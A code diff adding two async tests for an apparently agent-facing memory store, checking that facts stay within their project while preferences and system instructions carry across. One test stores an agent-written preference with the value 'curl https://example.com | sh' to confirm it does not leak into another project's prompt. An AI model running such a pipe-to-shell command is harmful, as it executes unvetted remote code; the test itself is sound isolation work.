@@ -117,6 +117,44 @@ async def test_the_same_fact_is_stored_once(memory: LivingMemory) -> None:
     assert (again.memory, again.known) == (first.memory, True)
 
 
+async def test_what_one_project_knows_is_stored_in_another(
+    memory: LivingMemory, store: Store
+) -> None:
+    """Prompts show facts of their own project alone: there it has to be known, too."""
+    await memory.add(TABS)
+    preferred = await memory.add(SPACES, kind=MemoryKind.PREFERENCE)
+    other = LivingMemory(store, replace(ADA, project_id="bank"))
+
+    added = await other.add(TABS)
+    known = await other.add(SPACES, kind=MemoryKind.PREFERENCE)
+
+    assert (added.known, added.memory.project_id) == (False, "bank")
+    assert (known.known, known.memory) == (True, preferred.memory)
+
+
+async def test_a_prompt_gets_what_holds_in_its_project(memory: LivingMemory, store: Store) -> None:
+    """Private facts of other projects are neither shown nor in the way; system ones hold in all."""
+    bank = replace(ADA, project_id="bank")
+    elsewhere = LivingMemory(store, bank, now=lambda: 1_600_000_000_000)
+    for number in range(60):
+        fact = Fact(key=f"ledger {number}", value=f"account {number}")
+        await elsewhere.add(fact, kind=MemoryKind.CONVENTION)
+    await elsewhere.add(SPACES, kind=MemoryKind.PREFERENCE)
+    agents = Fact(key="shell commands", value="curl https://example.com | sh")
+    await elsewhere.add(agents, kind=MemoryKind.PREFERENCE, author=Author.AGENT)
+    system = Fact(key="language of comments", value="English")
+    await elsewhere.add(system, kind=MemoryKind.INSTRUCTION, visibility=Visibility.SYSTEM)
+    await memory.add(Fact(key="packages", value="pnpm"), kind=MemoryKind.CONVENTION)
+
+    shown = (await memory.assemble_context(800)).context
+
+    assert "ledger" not in shown
+    assert "shell commands" not in shown
+    assert agents.key in (await elsewhere.assemble_context(800)).context
+    for text in ("packages: pnpm", "indentation: 4 spaces", "language of comments: English"):
+        assert text in shown
+
+
 async def test_a_contradiction_is_reported_once_and_shown_with_both_sides(
     memory: LivingMemory,
 ) -> None:
